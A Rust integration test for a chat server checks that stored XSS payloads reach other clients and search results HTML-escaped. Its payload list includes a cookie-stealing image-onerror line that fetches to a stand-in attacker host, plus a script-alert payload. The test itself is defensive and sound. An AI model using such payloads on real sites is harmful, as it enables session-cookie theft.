//! Stored XSS: markup sent as text reaches every other client, and search
//! results, HTML-escaped.

mod common;

use common::{Client, server};
use curfew_chat::protocol::{ClientFrame, ServerFrame};

const PAYLOADS: [&str; 3] = [
    r#"<img src=x onerror="fetch('//evil.example/'+document.cookie)">"#,
    "<script>alert(1)</script>",
    "a & b ' \" </textarea>",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn markup_arrives_escaped() {
    let server = server(|_| {});
    let mut mallory = Client::connect(&server, "mallory").await;
    let mut victim = Client::connect(&server, "victim").await;
    // Each is put in the lobby by its connection's task, after the upgrade:
    // wait until both are in, or the first message can go out before the
    // victim is there to get it.
    victim.join("lobby").await;
    mallory.join("lobby").await;
    for payload in PAYLOADS {
        mallory.say("lobby", payload).await;
        let ServerFrame::Message { text, from, .. } = victim.frame().await else {
            panic!("expected a message")
        };
        assert_eq!(from, "mallory");
        assert!(
            !text.contains('<')
                && !text.contains('>')
                && !text.contains('"')
                && !text.contains('\''),
            "unescaped: {text}"
        );
        assert_eq!(html_unescape(&text), payload, "the text survives, escaped");
        let _ = mallory.frame().await; // its own echo
    }
    victim
        .send(&ClientFrame::Search {
            room: "lobby".into(),
            pattern: "<script>".into(),
        })
        .await;
    let ServerFrame::SearchResult {
        pattern, matches, ..
    } = victim.frame().await
    else {
        panic!("expected a result")
    };
    assert_eq!(pattern, "&lt;script&gt;");
    assert_eq!(matches.len(), 1);
    assert_eq!(
        matches[0].text,
        "&lt;script&gt;alert(1)&lt;&#x2F;script&gt;"
    );
}

fn html_unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#x27;", "'")
        .replace("&#x2F;", "/")
        .replace("&amp;", "&")
}
